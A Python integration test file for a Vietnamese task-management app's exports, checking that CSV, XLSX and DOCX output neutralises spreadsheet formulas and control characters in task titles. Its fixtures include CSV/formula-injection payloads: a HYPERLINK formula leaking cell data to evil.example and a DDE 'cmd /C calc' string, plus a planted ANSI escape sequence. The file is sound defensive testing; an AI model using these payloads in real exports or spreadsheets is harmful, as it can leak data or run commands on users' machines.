"""What a task's text can do to the files dondoc writes (issue 10, defects 4 and 5), over HTTP and the
command line on both engines:
- a title a spreadsheet would run as a formula comes out neutralised in CSV (a leading quote) and as
  a plain string cell in XLSX (its text unchanged, so the export imports back as it was);
- a title with Word's line break (U+000B) is taken as a line break at the door, and rows already
  in the database with control characters XML cannot hold still export as XLSX and DOCX, and
  `dondoc export-tasks` still writes its file."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile

import docx
import openpyxl

from tasks import importer
from tasks.calendar import build_calendar
from tasks.permissions import Actor, Role
from tasks.tables import Task
from tests.conftest import ROOT
from tests.integration.conftest import World

API = "/api/v1"
CAL = build_calendar("Asia/Ho_Chi_Minh", [])
OVERDUE = "2026-02-27"  # before the test clock's Tuesday 03/03/2026: every task below is overdue
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]


async def record(world: World, titles: list[str]) -> list[int]:
    d = await world.directive_with_tasks("15/UBND-KT", [{"title": t, "lead_division": "QLNL", "due_on": OVERDUE} for t in titles])
    return [t["id"] for t in d["tasks"]]


async def export(world: World, kind: str, fmt: str) -> bytes:
    r = await world.get("giamdoc", f"{API}/reports/{kind}/export", params={"format": fmt})
    assert r.status_code == 200, r.text
    return r.content


async def test_a_title_a_spreadsheet_would_run_is_exported_as_text_in_csv_and_xlsx(world):
    await record(world, [*FORMULAS, "Rà soát phương án cấp điện"])

    rows = list(csv.reader(io.StringIO((await export(world, "overdue", "csv")).decode("utf-8-sig"))))
    titles = {r[1] for r in rows[1:]}
    assert titles == {"'" + f for f in FORMULAS} | {"Rà soát phương án cấp điện"}
    assert {r[6] for r in rows[1:]} == {"2"}  # working days overdue: a number, written as one

    content = await export(world, "overdue", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {c.value: c for c in sheet["B"][1:]}
    assert set(cells) == set(FORMULAS) | {"Rà soát phương án cấp điện"}
    for formula in FORMULAS:
        assert cells[formula].data_type == "s" and cells[formula].quotePrefix, formula
    assert {c.data_type for c in sheet["G"][1:]} == {"n"}
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


async def test_the_task_list_export_keeps_such_a_title_as_text_and_imports_back_as_the_same_task(world, database_url, tmp_path, db):
    await record(world, FORMULAS)
    out = tmp_path / "tasks.xlsx"
    run = subprocess.run([sys.executable, "-m", "web.cli", "export-tasks", "--out", str(out)], cwd=ROOT, capture_output=True, text=True,
                         env={**os.environ, "DONDOC_DATABASE_URL": database_url}, timeout=120)
    assert run.returncode == 0, run.stderr
    sheet = openpyxl.load_workbook(out).worksheets[0]
    assert {(c.value, c.data_type) for c in sheet["E"][1:]} == {(f, "s") for f in FORMULAS}
    office = Actor(id=world.user_ids["vanphong"], username="vanphong", role=Role.OFFICE)
    again = await importer.import_xlsx(db, office, world.clock.now(), CAL, out.read_bytes(), dry_run=True)
    assert (again.errors, len(again.new_tasks), again.existing_tasks) == ([], 0, len(FORMULAS))


async def test_words_line_break_in_a_title_is_a_line_break_and_every_export_still_opens(world, database_url, tmp_path):
    [pasted, legacy] = await record(world, ["Rà soát nguồn điện\u000bmùa khô 2026", "Báo cáo tiến độ"])
    r = await world.get("vanphong", f"{API}/tasks/{pasted}")
    assert r.json()["title"] == "Rà soát nguồn điện\nmùa khô 2026"
    # A row written before the door refused control characters (or by hand in the database).
    await Task.update({Task.title: "Báo cáo\u000btiến độ\u0001 quý\u001b[31m I"}).where(Task.id == legacy).run()

    sheet = openpyxl.load_workbook(io.BytesIO(await export(world, "overdue", "xlsx"))).worksheets[0]
    assert {c.value for c in sheet["B"][1:]} == {"Rà soát nguồn điện\nmùa khô 2026", "Báo cáo\ntiến độ quý[31m I"}
    completion = openpyxl.load_workbook(io.BytesIO(await export(world, "completion", "xlsx")))
    assert len(completion.worksheets) == 3
    document = docx.Document(io.BytesIO(await export(world, "completion", "docx")))
    text = "\n".join(c.text for t in document.tables for row in t.rows for c in row.cells)
    assert "Báo cáo\ntiến độ quý[31m I" in text

    out = tmp_path / "tasks.xlsx"
    run = subprocess.run([sys.executable, "-m", "web.cli", "export-tasks", "--out", str(out)], cwd=ROOT, capture_output=True, text=True,
                         env={**os.environ, "DONDOC_DATABASE_URL": database_url}, timeout=120)
    assert run.returncode == 0, run.stderr
    assert {c.value for c in openpyxl.load_workbook(out).worksheets[0]["E"][1:]} == {
        "Rà soát nguồn điện\nmùa khô 2026", "Báo cáo\ntiến độ quý[31m I"}
    table = subprocess.run([sys.executable, "-m", "web.cli", "report", "overdue", "--as-of", "2026-03-03T09:00"], cwd=ROOT,
                           capture_output=True, text=True, env={**os.environ, "DONDOC_DATABASE_URL": database_url}, timeout=120)
    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout and "Báo cáo tiến độ quý[31m I" in table.stdout
